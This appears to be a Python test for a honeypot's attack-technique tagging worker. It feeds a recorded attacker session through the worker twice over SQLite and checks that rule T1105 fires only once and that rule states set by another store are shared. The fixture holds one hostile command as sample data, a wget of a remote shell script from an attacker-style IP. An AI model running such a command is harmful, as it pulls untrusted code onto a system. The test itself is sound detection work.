"""The worker over a real SQLite database: tags once, news only for new tags, states of other processes."""

from __future__ import annotations

from decnet.bus.base import Event
from decnet.config import load_settings
from decnet.db.repository import BaseRepository
from decnet.runtime.worker import Transaction
from decnet.ttp.rules import RuleState
from decnet.ttp.store.factory import get_rule_store
from decnet.ttp.worker import TtpWorker

PAYLOAD = {
    "session_id": "s1",
    "attacker_ip": "203.0.113.1",
    "decky_id": "d",
    "commands": [{"id": "c1", "command_text": "wget http://203.0.113.9/x.sh", "ts": 1.0}],
}


async def test_redelivery_tags_once_and_states_are_shared(tmp_path):
    url = f"sqlite:///{tmp_path / 'd.sqlite'}"
    repo = await BaseRepository.open(url)
    try:
        settings = load_settings(data_dir=tmp_path)
        store = get_rule_store(settings, repo=repo)
        worker = TtpWorker(store, settings)
        for engine in worker.tagger.iter_watchables():
            await engine.load()
        assert worker.health()["rules_loaded"] > 0
        event = Event("attacker.session.ended", PAYLOAD)
        topics = []
        for _ in range(2):
            async with repo.transaction() as bound:
                tx = Transaction(bound)
                await worker.handle([event], tx)
                topics.append([e.topic for e in tx.bus.events])
        assert "ttp.rule.fired.T1105" in topics[0]
        assert topics[1] == []
        other = get_rule_store(settings, repo=repo)
        await other.set_state("R0002", RuleState("disabled", reason="test"))
        await store.tail()
        assert store.states()["R0002"].state == "disabled"
        assert (await store.get_state("R0002")).state == "disabled"
        assert (await store.get_state("unknown")).state == "enabled"
    finally:
        await repo.close()
